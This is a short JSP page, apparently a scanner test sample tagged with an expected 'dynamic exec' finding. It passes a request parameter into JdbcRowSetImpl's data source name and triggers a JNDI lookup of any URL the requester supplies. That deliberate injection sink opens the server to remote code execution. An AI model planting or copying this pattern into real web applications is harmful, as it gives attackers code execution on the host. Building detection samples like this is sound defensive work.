<%@ page import="com.sun.rowset.JdbcRowSetImpl" %>
<%-- triage-expect: triage_jsp_dynamic_exec --%>
<%
    // a JNDI lookup of whatever URL the request gives, through JdbcRowSetImpl's data source name
    JdbcRowSetImpl rs = new JdbcRowSetImpl();
    rs.setDataSourceName(request.getParameter("ds"));
    rs.setAutoCommit(true);
%>
